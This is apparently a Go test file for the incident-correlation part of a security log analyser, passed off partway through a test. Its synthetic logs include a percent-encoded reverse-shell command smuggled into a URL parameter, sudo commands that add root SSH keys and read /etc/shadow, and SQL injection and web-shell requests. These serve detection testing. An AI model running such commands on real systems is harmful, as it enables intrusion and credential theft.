package incident

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/sextant-logs/sextant/internal/analyze"
	"github.com/sextant-logs/sextant/internal/event"
)

// sudo is what sudo writes of a command.
func sudo(host, user, command, outcome string) record {
	r := record{dataset: "system.auth", host: host, category: []string{"process"}, types: []string{"start"}, action: "sudo_command", outcome: outcome, user: user, effective: "root", process: "sudo", command: command}
	if outcome == "failure" {
		r.types, r.action = []string{"info"}, "sudo_denied"
	}
	return r
}

func keyLogin(host, source, user, pid string) record {
	r := sshd(host, source, user, "success")
	r.method, r.pid = "publickey", pid
	return r
}

func loggedOff(host, user, pid string) record {
	return record{dataset: "linux.auth", host: host, category: []string{"session"}, types: []string{"end"}, action: "logged-off", outcome: "success", user: user, process: "sshd", pid: pid}
}

func TestACommandIsFollowedBackToTheLoginsThatLedToIt(t *testing.T) {
	w := &world{ips: []hostAddress{{"bastion", "10.0.0.1"}}}
	old := w.log(110, keyLogin("bastion", "192.0.2.77", "alice", "90")) // a later session, but ended before
	w.log(130, loggedOff("bastion", "alice", "90"))
	first := w.log(100, keyLogin("bastion", attacker, "alice", "100"))
	second := w.log(160, keyLogin("app", "10.0.0.1", "alice", "200"))
	colleague := w.log(170, keyLogin("app", "10.0.0.9", "bob", "300"))
	f := w.log(300, sudo("app", "alice", "/usr/bin/tee -a /root/.ssh/authorized_keys", "success"))
	next := w.log(400, sudo("app", "alice", "/usr/bin/tar czf /tmp/x.tgz /srv", "success"))
	other := w.log(410, sudo("app", "bob", "/usr/bin/id", "success"))
	end := w.log(500, loggedOff("app", "alice", "200"))
	w.find("SSH keys changed", "medium", []string{"T1098.004"}, []string{"persistence"}, f)
	inc := w.one(t)
	for what, id := range map[string]string{"login from outside": first, "login from the bastion": second, "later command": next, "end": end} {
		if !cited(inc.What, id) {
			t.Errorf("the %s is not told: %+v", what, inc.What)
		}
	}
	for _, id := range []string{colleague, other, old} {
		if slices.Contains(inc.Evidence, id) {
			t.Errorf("%s is of another session", id)
		}
	}
	if !slices.Contains(inc.Where.Sources, attacker) || !slices.Contains(inc.Where.Hosts, "bastion") {
		t.Errorf("where: %+v", inc.Where)
	}
	if !slices.Contains(inc.Techniques, "T1021.004") {
		t.Errorf("techniques: %v", inc.Techniques)
	}
	if inc.When.First != stamp(at(100)) || inc.When.Last != stamp(at(500)) {
		t.Errorf("when: %+v", inc.When)
	}
}

func TestFindingsOfOneSessionAreOneIncidentHoursApart(t *testing.T) {
	for _, sessions := range []int{1, 2} {
		w := &world{}
		w.log(0, keyLogin("app", attacker, "ansible", "1"))
		if sessions == 2 {
			w.log(500, loggedOff("app", "ansible", "1"))
			w.log(14000, keyLogin("app", stranger, "ansible", "2"))
		}
		a := w.log(100, sudo("app", "ansible", "/usr/sbin/useradd x", "success"))
		b := w.log(14400, sudo("app", "ansible", "/usr/bin/crontab -", "success"))
		w.find("Account made", "medium", []string{"T1136.001"}, []string{"persistence"}, a)
		w.find("Crontab changed", "medium", []string{"T1053.003"}, []string{"persistence"}, b)
		if got := len(w.build(t)); got != sessions {
			t.Errorf("%d sessions made %d incidents", sessions, got)
		}
	}
}

func TestARefusedCommandThatIsLaterAllowedSucceeded(t *testing.T) {
	for command, want := range map[string]string{"/bin/bash": Succeeded, "/usr/bin/id": Failed, "/usr/bin/cat /etc/shadow": Succeeded} {
		w := &world{}
		no := w.log(0, sudo("app", "mike", "/usr/bin/cat /etc/shadow", "failure"))
		yes := w.log(300, sudo("app", "mike", command, "success"))
		w.find("sudo used by somebody who may not", "medium", []string{"T1548.003"}, []string{"privilege-escalation"}, no)
		inc := w.one(t)
		if inc.Outcome.Result != want || cited(inc.Outcome.Why, yes) != (want == Succeeded) {
			t.Errorf("%s: %+v", command, inc.Outcome)
		}
	}
}

func TestAlertsOfSSHAreJudgedByTheHostsOwnLog(t *testing.T) {
	w := &world{ips: []hostAddress{{"web1", "192.0.2.10"}}}
	f := w.bruteForce(0, 20, 2, "web1", attacker, "root", "admin")
	f.Entities.Users = nil
	var ids []string
	for i := range 3 {
		ids = append(ids, w.log(i*10, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"}, source: attacker, destination: "192.0.2.10", port: "22", message: "Attempted Information Leak"}))
	}
	w.find("Suricata alert: ET EXPLOIT something", "medium", []string{"T1190"}, []string{"initial-access"}, ids...)
	w.quiet(9000, "linux.auth", "web1", "session")
	inc := w.one(t)
	if inc.Outcome.Result != Failed || inc.Severity != "low" {
		t.Errorf("%s %+v", inc.Severity, inc.Outcome)
	}
}

func TestAnAlertOfALoginServiceNamesTheAuthenticationLog(t *testing.T) {
	for port, want := range map[string]string{"3389": authenticationLog("192.0.2.10"), "443": accessLog("192.0.2.10")} {
		w := &world{}
		id := w.log(0, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"}, source: attacker, destination: "192.0.2.10", port: port})
		w.find("Suricata alert: ET EXPLOIT something", "high", []string{"T1190"}, []string{"initial-access"}, id)
		inc := w.one(t)
		if inc.Outcome.Result != Unknown || !slices.Contains(inc.Outcome.Needs, want) || !slices.Contains(inc.Outcome.Needs, processLog("192.0.2.10")) {
			t.Errorf("port %s: %+v", port, inc.Outcome)
		}
	}
}

func TestScanningOfTheInternetIsOneLowIncidentADay(t *testing.T) {
	w := &world{}
	for i := range 200 {
		id := w.log(i*30, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"},
			source: fmt.Sprintf("203.0.113.%d", 1+i), destination: fmt.Sprintf("192.0.2.%d", 10+i%3), port: "3306", message: "Potentially Bad Traffic"})
		w.find("Suricata alert: ET SCAN Suspicious inbound to mySQL port 3306", "medium", []string{"T1190"}, []string{"initial-access"}, id)
	}
	inc := w.one(t)
	if inc.Severity != "low" && inc.Severity != "informational" {
		t.Errorf("%d %s", inc.Score, inc.Severity)
	}
	// One that got somewhere stands out.
	flow := w.log(5, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, connection: "closed", source: "203.0.113.1", destination: "192.0.2.10", port: "3306", sentBytes: 9000, receivedBytes: 90000})
	incs := w.build(t)
	if len(incs) != 2 || incs[0].Outcome.Result != Succeeded || !cited(incs[0].Outcome.Why, flow) {
		t.Errorf("%d incidents, the first %+v", len(incs), incs[0].Outcome)
	}
}

func TestAVisitToTheWebServerIsNoWayInThatAScanFound(t *testing.T) {
	w := &world{}
	id := w.log(0, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"}, source: attacker, destination: "192.0.2.10", port: "80"})
	w.find("Suricata alert: ET SCAN something", "medium", []string{"T1595.001"}, []string{"reconnaissance"}, id)
	w.log(20, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, connection: "closed", source: attacker, destination: "192.0.2.10", port: "80", sentBytes: 900, receivedBytes: 90000})
	w.log(20, accessed("", attacker, "GET", "/", 200, 9000))
	w.quiet(9000, "apache.access", "", "web")
	if inc := w.one(t); inc.Outcome.Result == Succeeded {
		t.Errorf("%+v", inc.Outcome)
	}
}

func TestTwoAttackersOfOnePublicAddressStayApart(t *testing.T) {
	w := &world{}
	for i, source := range []string{attacker, stranger} {
		id := w.log(i*36000, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"}, source: source, destination: "192.0.2.10", port: "4444"})
		w.find("Suricata alert: ET EXPLOIT something", "high", []string{"T1190"}, []string{"initial-access"}, id)
		w.log(i*36000+60, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, connection: "closed", source: "192.0.2.10", destination: source, port: "443", sentBytes: 900, receivedBytes: 900})
	}
	if got := len(w.build(t)); got != 2 {
		t.Errorf("%d incidents", got)
	}
}

func TestALogWithoutAHostIsOfTheHostWhoseLogsLieBesideIt(t *testing.T) {
	root := "case/web1/var/log/"
	for _, others := range []int{1, 2} {
		w := &world{}
		cron := w.log(90, record{dataset: "system.syslog", host: "web1", category: []string{"configuration"}, types: []string{"change"}, user: "www-data", process: "crontab", path: root + "syslog"})
		var ids []string
		for i := range 6 {
			r := accessed("", attacker, "GET", "/uploads/a.php?cmd=id", 200, 50)
			r.path = root + "apache2/access.log"
			ids = append(ids, w.log(i, r))
		}
		if others == 2 { // a log server's directory says nothing of hosts
			w.log(10, record{dataset: "system.syslog", host: "db1", category: []string{"process"}, types: []string{"info"}, path: root + "syslog"})
		}
		w.find("Web shell", "high", []string{"T1505.003"}, []string{"persistence"}, ids...)
		w.find("Crontab of a service account changed", "high", []string{"T1053.003"}, []string{"persistence"}, cron)
		incs := w.build(t)
		if len(incs) != others {
			t.Fatalf("%d hosts in the directory made %d incidents", others, len(incs))
		}
		web := incs[slices.IndexFunc(incs, func(i Incident) bool { return slices.Contains(i.Techniques, "T1505.003") })]
		if others == 1 && !slices.Equal(web.Where.Hosts, []string{"web1"}) {
			t.Errorf("where: %+v", web.Where)
		}
		if others == 2 && (len(web.Where.Hosts) > 0 || !slices.Equal(web.Where.Logs, []string{root + "apache2/access.log"})) {
			t.Errorf("where: %+v", web.Where)
		}
	}
}

func TestWhatIsNotKnownToHaveWorkedIsNotCritical(t *testing.T) {
	w := &world{}
	var ids []string
	for i := range 30 {
		ids = append(ids, w.log(i, accessed("web1", attacker, "GET", "/x?cmd=id", 200, 50)))
	}
	w.find("Exploit", "critical", []string{"T1190"}, []string{"initial-access"}, ids...)
	w.find("Web shell", "critical", []string{"T1505.003"}, []string{"persistence"}, ids...)
	inc := w.one(t)
	if inc.Outcome.Result != Unknown || inc.Score > maxUnknown || inc.Severity == "critical" {
		t.Errorf("%d %s %+v", inc.Score, inc.Severity, inc.Outcome)
	}
}

func TestAnsweredQuestionsCarryATunnel(t *testing.T) {
	for rcode, want := range map[string]string{"NOERROR": Succeeded, "NXDOMAIN": Unknown, "": Unknown} {
		w := &world{}
		var ids []string
		for i := range 20 {
			name := fmt.Sprintf("%d6a6f686e.t.example.net", i)
			q := record{dataset: "zeek.dns", category: []string{"network"}, types: []string{"protocol"}, source: "10.0.0.5", destination: "10.0.0.2", name: name}
			ids = append(ids, w.log(2*i, q))
			if rcode != "" {
				w.log(2*i+1, record{dataset: "zeek.dns", category: []string{"network"}, types: []string{"protocol"}, source: "10.0.0.2", destination: "10.0.0.5", name: name, rcode: rcode, answer: "answer"})
			}
		}
		w.find("Many long DNS names", "medium", []string{"T1071.004"}, []string{"command-and-control"}, ids...)
		if inc := w.one(t); inc.Outcome.Result != want {
			t.Errorf("answers %q: %+v", rcode, inc.Outcome)
		}
	}
}

func TestOneProcessTreeIsOneIncidentAndIsTold(t *testing.T) {
	run := func(id, parent, name, parentName string) record {
		return record{dataset: "windows.sysmon_operational", host: "ws1", category: []string{"process"}, types: []string{"start"}, code: "1", entity: id, parentEntity: parent,
			process: name, executable: `C:\` + name, parent: parentName, user: "dave", command: name}
	}
	w := &world{}
	w.log(0, run("p0", "pp", "userinit.exe", "winlogon.exe"))
	mail := w.log(10, run("p1", "p0", "winword.exe", "explorer.exe"))
	shell := w.log(20, run("p2", "p1", "powershell.exe", "winword.exe"))
	quiet := w.log(30, run("p3", "p2", "whoami.exe", "powershell.exe"))
	wrote := w.log(40, record{dataset: "windows.sysmon_operational", host: "ws1", category: []string{"file"}, types: []string{"creation"}, entity: "p3", process: "whoami.exe", file: `C:\x.locked`})
	late := w.log(50000, run("p4", "p3", "vssadmin.exe", "whoami.exe"))
	same := w.log(31, run("p5", "p9", "notepad.exe", "explorer.exe"))
	w.find("Office starts a shell", "high", []string{"T1204.002"}, []string{"execution"}, shell)
	w.find("Files renamed", "high", []string{"T1486"}, []string{"impact"}, wrote)
	inc := w.one(t)
	for what, id := range map[string]string{"parent": mail, "child": quiet, "child of the child": late} {
		if !cited(inc.What, id) {
			t.Errorf("the %s is not told", what)
		}
	}
	if slices.Contains(inc.Evidence, same) {
		t.Error("what the session's shell started besides is told")
	}
}

func TestAccountsOfTheSameGuessesInTwoLogsAreOneIncident(t *testing.T) {
	w := &world{}
	users := []string{"ann", "bob", "cy", "dan", "eve", "fay"}
	var ids []string
	for i, u := range users {
		ids = append(ids, w.log(i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4776", provider: "Microsoft-Windows-Security-Auditing"}))
	}
	w.find("NTLM credentials refused", "high", []string{"T1110.003"}, []string{"credential-access"}, ids...)
	f := w.bruteForce(0, 6, 1, "dc1", "10.0.0.9", users...)
	f.Level = "high"
	w.log(20, sshd("dc1", "10.0.0.9", "eve", "success"))
	if inc := w.one(t); inc.Outcome.Result != Succeeded {
		t.Errorf("%+v", inc.Outcome)
	}
}

func TestMalwareThatWasRemovedFailed(t *testing.T) {
	for remedy, want := range map[string]string{"2": Failed, "6": Succeeded, "": Unknown} {
		w := &world{}
		def := record{dataset: "windows.windows_defender", host: "ws1", category: []string{"malware"}, code: "1116", provider: "Microsoft-Windows-Windows Defender"}
		ids := []string{w.log(0, def)}
		if remedy != "" {
			def.code, def.remedy = "1117", remedy
			ids = append(ids, w.log(9, def))
		}
		w.find("Defender found malware", "high", []string{"T1204"}, []string{"execution"}, ids...)
		if inc := w.one(t); inc.Outcome.Result != want {
			t.Errorf("action %q: %+v", remedy, inc.Outcome)
		}
	}
}

func TestWhatElseTheIntruderDidIsTold(t *testing.T) {
	w := &world{ips: []hostAddress{{"web1", "10.0.0.5"}}}
	old := "198.51.100.200"
	to := func(d string) record {
		return record{dataset: "zeek.conn", category: []string{"network"}, types: []string{"connection"}, connection: "SF", source: "10.0.0.5", destination: d, port: "443", sourcePort: "50000", sentBytes: 9000, receivedBytes: 900}
	}
	w.log(0, to(old))
	upload := w.log(900, accessed("web1", attacker, "POST", "/upload", 200, 100))
	w.bruteForce(1000, 20, 2, "web1", attacker, "root")
	w.log(1100, sshd("web1", attacker, "root", "success"))
	fetched := w.log(1200, to("198.51.100.9"))
	usual := w.log(1210, to(old))
	inc := w.one(t)
	if !cited(inc.What, upload) || !cited(inc.What, fetched) || !slices.Contains(inc.Where.Destinations, "198.51.100.9") {
		t.Errorf("%+v", inc.What)
	}
	if slices.Contains(inc.Evidence, usual) {
		t.Error("a connection the host makes at other times too is told")
	}
}

func TestOneWebShellIsOneIncidentHoweverManyAddressesUseIt(t *testing.T) {
	for _, paths := range []int{1, 2} {
		w := &world{}
		for i, source := range []string{attacker, stranger} {
			id := w.log(i*600, accessed("web1", source, "GET", fmt.Sprintf("/uploads/%d.php", i%paths), 200, 50))
			w.find("Web shell", "high", []string{"T1505.003"}, []string{"persistence"}, id)
		}
		if got := len(w.build(t)); got != paths {
			t.Errorf("%d shells made %d incidents", paths, got)
		}
	}
}

func TestWhatOneAttackerGotIsNoMeasureForAnother(t *testing.T) {
	w := &world{}
	for i := range 5 {
		w.log(i, accessed("web1", fmt.Sprintf("192.0.2.%d", 10+i), "GET", "/search", 200, 2000))
	}
	for i, source := range []string{attacker, stranger} {
		id := w.log(100+i, accessed("web1", source, "GET", "/search", 200, 90000))
		w.find("SQL injection", "high", []string{"T1190"}, []string{"initial-access"}, id)
	}
	if inc := w.one(t); inc.Outcome.Result != Succeeded || len(inc.Where.Sources) != 2 {
		t.Errorf("%v %+v", inc.Where.Sources, inc.Outcome)
	}
}

func TestGuessesWithoutAnAddressSucceedByALoginFromANewOne(t *testing.T) {
	for known, want := range map[string]string{"": Succeeded, "cy": Failed, "zoe": Unknown} {
		w := &world{}
		if known != "" {
			w.log(0, sshd("dc1", "10.0.0.9", known, "success"))
		}
		var ids []string
		for i, u := range []string{"ann", "bob", "cy", "dan"} {
			ids = append(ids, w.log(100+i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4776"}))
		}
		w.log(200, sshd("dc1", "10.0.0.9", "cy", "success"))
		w.quiet(9000, "system.security", "dc1", "authentication")
		w.find("NTLM credentials refused", "high", []string{"T1110.003"}, []string{"credential-access"}, ids...)
		if inc := w.one(t); inc.Outcome.Result != want {
			t.Errorf("address known for %q: %+v", known, inc.Outcome)
		}
	}
}

func TestGuessesFromANamedMachineAreAllThatItMade(t *testing.T) {
	for user, machine := range map[string]string{"eve": "", "gil": "KALI"} { // tried after the rule had enough; guessed at once
		w := &world{}
		var ids []string
		for i, u := range []string{"ann", "bob", "cy", "dan", "eve", "fay"} {
			id := w.log(100+i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4776", from: "KALI"})
			if i < 3 { // the rule had enough
				ids = append(ids, id)
			}
		}
		login := sshd("dc1", "10.0.0.9", user, "success")
		login.from = machine
		last := w.log(200, login)
		w.quiet(9000, "system.security", "dc1", "authentication")
		w.find("NTLM credentials refused", "high", []string{"T1110.003"}, []string{"credential-access"}, ids...)
		if inc := w.one(t); inc.Outcome.Result != Succeeded || !cited(inc.Outcome.Why, last) || !strings.Contains(inc.Outcome.Why[0].Text, "6 recorded attempts") {
			t.Errorf("%s: %+v", user, inc.Outcome)
		}
	}
}

func TestTheTitleIsOfTheLogOfWhatWasAttacked(t *testing.T) {
	w := &world{}
	alert := w.log(0, record{dataset: "suricata.eve", category: []string{"network", "intrusion_detection"}, types: []string{"allowed"}, source: attacker, destination: "192.0.2.10", port: "80"})
	request := w.log(5, accessed("web1", attacker, "GET", "/x?id=1", 403, 100))
	w.find("Suricata alert: ET WEB_SERVER something", "medium", []string{"T1190"}, []string{"initial-access"}, alert)
	w.find("SQL injection", "medium", []string{"T1190"}, []string{"initial-access"}, request)
	if inc := w.one(t); inc.Title != "SQL injection from "+attacker+" against web1 failed" {
		t.Error(inc.Title)
	}
}

func TestGuessesWithoutAnAddressAreOfTheAddressThatAnotherLogHas(t *testing.T) {
	for _, login := range []string{Succeeded, Failed} {
		w := &world{}
		var ids []string
		var named string
		for i, u := range []string{"ann", "bob", "dan", "eve"} {
			ids = append(ids, w.log(100+2*i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4776"}))
			named = w.log(100+2*i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4625", source: fmt.Sprint("10.0.9.", 1+i%2)})
		}
		w.log(104, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: "ann", code: "4625", source: "10.0.0.7"}) // ann, mistyping
		w.log(150, sshd("dc1", "10.0.0.7", "ann", "success"))
		got := ""
		if login == Succeeded {
			got = w.log(160, sshd("dc1", "10.0.9.2", "zed", "success")) // whom nobody had tried before
		}
		w.quiet(9000, "system.security", "dc1", "authentication")
		w.find("NTLM credentials refused", "high", []string{"T1110.003"}, []string{"credential-access"}, ids...)
		inc := w.one(t)
		if inc.Outcome.Result != login || got != "" && !cited(inc.Outcome.Why, got) || !cited(inc.Outcome.Why, named) {
			t.Errorf("%s: %+v", login, inc.Outcome)
		}
		if !slices.Equal(inc.Where.Sources, []string{"10.0.9.1", "10.0.9.2"}) {
			t.Errorf("sources: %v", inc.Where.Sources)
		}
	}
}

func TestAnAttackThatNamesAnAddressSucceededWhenTheServerCallsIt(t *testing.T) {
	for to, want := range map[string]string{stranger: Succeeded, "192.0.2.200": Unknown} {
		w := &world{ips: []hostAddress{{"web1", "10.0.0.5"}}}
		r := accessed("web1", attacker, "GET", "/export.php", 200, 400)
		r.url = "/export.php?f=%253Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F" + stranger + "%2F4444"
		id := w.log(0, r)
		w.log(3000, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: to, port: "4444", start: at(2), sentBytes: 900, receivedBytes: 900})
		w.find("Shell command in a request", "medium", []string{"T1190"}, []string{"initial-access"}, id)
		if inc := w.one(t); inc.Outcome.Result != want {
			t.Errorf("a call to %s: %+v", to, inc.Outcome)
		}
	}
}

func TestTheAccountThatWasCreatedIsFollowed(t *testing.T) {
	w := &world{}
	made := w.log(0, record{dataset: "system.auth", host: "app", category: []string{"iam"}, types: []string{"user", "creation"}, user: "monitord", process: "useradd", outcome: "success"})
	back := w.log(900, sshd("app", attacker, "monitord", "success"))
	ran := w.log(1000, sudo("app", "monitord", "/bin/bash", "success"))
	w.find("Account made", "high", []string{"T1136.001"}, []string{"persistence"}, made)
	inc := w.one(t)
	if !cited(inc.What, back) || !cited(inc.What, ran) || !slices.Contains(inc.Where.Sources, attacker) {
		t.Errorf("%+v %+v", inc.What, inc.Where)
	}
}

func TestWhatACallerDidInTheCloudIsTold(t *testing.T) {
	w := &world{}
	call := func(s int, action, outcome string) string {
		return w.log(s, record{dataset: "aws.cloudtrail", category: []string{"iam"}, action: action, outcome: outcome, source: attacker, user: "svc", account: "123456789012", region: "eu-west-1"})
	}
	call(0, "ListBuckets", "failure")
	stopped := call(10, "StopLogging", "success")
	for i := range 20 {
		call(20+i, "GetObject", "success")
	}
	w.log(15, record{dataset: "aws.cloudtrail", category: []string{"iam"}, action: "GetObject", outcome: "success", source: "192.0.2.1", user: "svc"})
	w.find("Logging stopped", "high", []string{"T1562.008"}, []string{"defense-evasion"}, stopped)
	inc := w.one(t)
	if !said(inc.What, "22 calls of account svc from "+attacker) || !said(inc.What, "GetObject 20 times") || !said(inc.What, "ListBuckets, refused") {
		t.Errorf("what: %+v", inc.What)
	}
	if !said(inc.Impact.Facts, "20 objects were read") || !slices.Equal(inc.Where.Logs, []string{"AWS account 123456789012, eu-west-1"}) {
		t.Errorf("impact: %+v, where: %+v", inc.Impact, inc.Where)
	}
}

func TestWhatIsDoneOnAHostInOneMomentIsOneIncident(t *testing.T) {
	for _, c := range []struct {
		seconds int
		second  string
		want    int
	}{{1, "ann", 1}, {1, "", 1}, {600, "ann", 2}, {1, "bob", 2}} {
		w := &world{}
		a := w.log(0, record{dataset: "windows.security", host: "pc1", category: []string{"configuration"}, outcome: "success", user: "ann"})
		b := w.log(c.seconds, record{dataset: "windows.system", host: "pc1", category: []string{"configuration"}, outcome: "success", user: c.second})
		w.find("Security log cleared", "high", []string{"T1070.001"}, []string{"defense-evasion"}, a)
		w.find("Event log cleared", "high", []string{"T1070.001"}, []string{"defense-evasion"}, b)
		// Of one rule and day, such are told together: make them of two levels.
		w.findings[1].Level = "medium"
		if c.want == 2 && c.second == "ann" {
			w.findings[1].Entities.Users = nil // else it is ann's doing in both
		}
		if got := len(w.build(t)); got != c.want {
			t.Errorf("%d s apart, by ann and %q: %d incidents, want %d", c.seconds, c.second, got, c.want)
		}
	}
}

func TestWhatMadeAHostCallOutIsTold(t *testing.T) {
	w := &world{ips: []hostAddress{{"app", "10.0.0.5"}}}
	unit := func(s int, name string) string {
		return w.log(s, record{dataset: "system.syslog", host: "app", process: "systemd", message: "Started " + name + ".service - Something."})
	}
	usual := unit(-30000, "backup")
	ran := w.log(-40, sudo("app", "rosa", "/usr/bin/npm ci", "success"))
	fetched := w.log(-20, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: stranger, port: "80", url: "/agent"})
	again, made := unit(-15, "backup"), unit(-10, "node-metrics")
	var ids []string
	for i := range 30 {
		ids = append(ids, w.log(i*300, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: stranger, port: "443", sentBytes: 900, receivedBytes: 900}))
	}
	f := w.find("Connections at even intervals", "medium", []string{"T1071"}, []string{"command-and-control"}, ids...)
	f.Kind = "beacon"
	inc := w.one(t)
	for what, id := range map[string]string{"command": ran, "download": fetched, "service": made} {
		if !cited(inc.What, id) {
			t.Errorf("the %s is not told: %+v", what, inc.What)
		}
	}
	if cited(inc.What, usual) || cited(inc.What, again) || !slices.Contains(inc.Where.Hosts, "app") {
		t.Errorf("%+v %+v", inc.What, inc.Where)
	}
}

// What the noise budget left out makes a finding beside it worth more, and is nothing by itself.
func TestASpareFindingCountsBesideAnotherOnly(t *testing.T) {
	for together, want := range map[bool]int{true: 1, false: 0} {
		w := &world{}
		a := w.log(0, record{dataset: "system.security", host: "dc1", category: []string{"file"}, user: "nina", source: "10.0.0.7"})
		b := w.log(1800, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: map[bool]string{true: "10.0.0.7", false: "10.0.0.8"}[together], destination: stranger, sentBytes: 1 << 30, receivedBytes: 900})
		w.find("An account deals with far more files than usual", "low", []string{"T1039"}, []string{"collection"}, a).Kind = "rates"
		w.find("Far more data sent out than usual", "low", []string{"T1048"}, []string{"exfiltration"}, b).Kind = "volume"
		in := Input{Findings: w.findings[1:], Spare: w.findings[:1], Coverage: w.coverage()}
		incs, err := build(t.Context(), in, w)
		if err != nil || len(incs) != want {
			t.Errorf("by one actor %v: %d incidents, want %d; %v", together, len(incs), want, err)
		}
	}
}

func TestGuessesSpreadOverAddressesAreOneAttack(t *testing.T) {
	for _, together := range []bool{true, false} {
		w := &world{}
		for i := range 4 {
			start := 2 * i
			if !together {
				start = 900 * i
			}
			w.bruteForce(start, 20, 10, "web1", fmt.Sprintf("203.0.113.%d", 10+i), "root", "deploy")
		}
		w.log(203, sshd("web1", "203.0.113.13", "deploy", "success"))
		w.log(3000, sshd("web1", "203.0.113.13", "deploy", "success"))
		w.quiet(9000, "linux.auth", "web1", "authentication")
		incs := w.build(t)
		if together && (len(incs) != 1 || incs[0].Outcome.Result != Succeeded || len(incs[0].Where.Sources) != 4) || !together && len(incs) < 2 {
			t.Errorf("together %v: %d incidents, %+v", together, len(incs), incs[0].Where)
		}
	}
}

func TestAShellOfTheWebServersAccountShowsThatAnAttackWorked(t *testing.T) {
	w := &world{}
	id := w.log(0, accessed("web1", attacker, "GET", "/export.php", 200, 400))
	shell := w.log(1800, sudo("web1", "www-data", "/usr/bin/su", "failure"))
	w.find("Shell command in a request", "medium", []string{"T1190"}, []string{"initial-access"}, id)
	if inc := w.one(t); inc.Outcome.Result != Succeeded || !cited(inc.Outcome.Why, shell) {
		t.Errorf("%+v", inc.Outcome)
	}
}

func TestAShellIsOfTheAttackThatWasAnsweredLastBeforeIt(t *testing.T) {
	var w world
	for i, source := range []string{"203.0.113.40", "203.0.113.48"} {
		a := w.log(i*7200, accessed("web1", source, "GET", "/shop/search.php?q=1%27+OR+1=1", 200, 900))
		w.find("SQL injection from "+source, "high", []string{"T1190"}, []string{"initial-access"}, a)
	}
	w.log(9000, sudo("web1", "www-data", "/usr/bin/su", "failure"))
	for _, inc := range w.build(t) {
		want := map[string]string{"203.0.113.40": Unknown, "203.0.113.48": Succeeded}[inc.Who.SourceIPs[0]]
		if inc.Outcome.Result != want {
			t.Errorf("attack from %s: %s, want %s: %v", inc.Who.SourceIPs[0], inc.Outcome.Result, want, inc.Outcome.Why)
		}
	}
}

func TestWhoAndWhereOfAProcessTreeAreToldWithoutSecrets(t *testing.T) {
	var w world
	started := record{dataset: "windows.sysmon_operational", provider: "Microsoft-Windows-Sysmon", host: "ws1", category: []string{"process"}, types: []string{"start"}, code: "1", user: "alice", entity: "{p1}", process: "powershell.exe", command: "powershell"}
	w.log(0, started)
	w.log(5, record{dataset: started.dataset, provider: started.provider, host: "ws1", category: []string{"network"}, types: []string{"start", "connection"}, code: "3", entity: "{p1}", process: "powershell.exe", source: "10.0.0.5", destination: "10.0.0.99", port: "80"})
	w.log(6, record{dataset: started.dataset, provider: started.provider, host: "ws1", category: []string{"registry"}, types: []string{"change"}, code: "12", entity: "{p1}", process: "powershell.exe", registry: `HKLM\Software\Cryptography\Wintrust`})
	started.user, started.entity, started.parentEntity, started.process, started.command = "alice", "{p2}", "{p1}", "net.exe", `net user /add helpdesk Secret-1`
	add := w.log(10, started)
	read := w.log(20, record{dataset: started.dataset, provider: started.provider, host: "ws1", category: []string{"process"}, types: []string{"access"}, code: "10", entity: "{p1}", process: "powershell.exe"})
	w.find("Memory of LSASS read", "high", []string{"T1003.001"}, []string{"credential-access"}, read)
	w.find("Account added by a command", "medium", []string{"T1136.001"}, []string{"persistence"}, add)
	incs := w.build(t)
	if len(incs) != 1 {
		t.Fatalf("%d incidents, want 1", len(incs))
	}
	inc := incs[0]
	if !slices.Contains(inc.Who.Users, "alice") || !slices.Contains(inc.Where.Destinations, "10.0.0.99") {
		t.Errorf("who %v, destinations %v: want alice, 10.0.0.99", inc.Who.Users, inc.Where.Destinations)
	}
	for _, s := range slices.Concat(inc.What, inc.Impact.Facts) {
		if strings.Contains(s.Text, "Wintrust") || strings.Contains(s.Text, "created") && strings.Contains(s.Text, "Secret") {
			t.Errorf("told: %s", s.Text)
		}
	}
	if !hasFact(inc, "account was created on host ws1: helpdesk") {
		t.Errorf("facts %v", inc.Impact.Facts)
	}
}

func hasFact(inc Incident, text string) bool {
	return slices.ContainsFunc(inc.Impact.Facts, func(s Sentence) bool { return strings.Contains(s.Text, text) })
}

func TestCallsThatBeginWithANewServiceAreAnIncident(t *testing.T) {
	for fresh, want := range map[bool]int{true: 1, false: 0} {
		w := &world{ips: []hostAddress{{"app", "10.0.0.5"}}}
		w.quiet(-30000, "system.syslog", "app")
		unit := record{dataset: "system.syslog", host: "app", process: "systemd", message: "Started node-metrics.service - Something."}
		if !fresh {
			w.log(-9000, unit)
		}
		w.log(-10, unit)
		var ids []string
		for i := range 30 {
			ids = append(ids, w.log(i*300, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: stranger, sentBytes: 900, receivedBytes: 900}))
		}
		w.log(-20, sudo("app", "rosa", "/usr/bin/npm ci", "success"))
		w.find("Connections at even intervals", "informational", []string{"T1071"}, []string{"command-and-control"}, ids...).Kind = "beacon"
		got := w.build(t)
		if len(got) != want {
			t.Errorf("a service that is new %v: %d incidents, want %d", fresh, len(got), want)
		}
		for _, inc := range got {
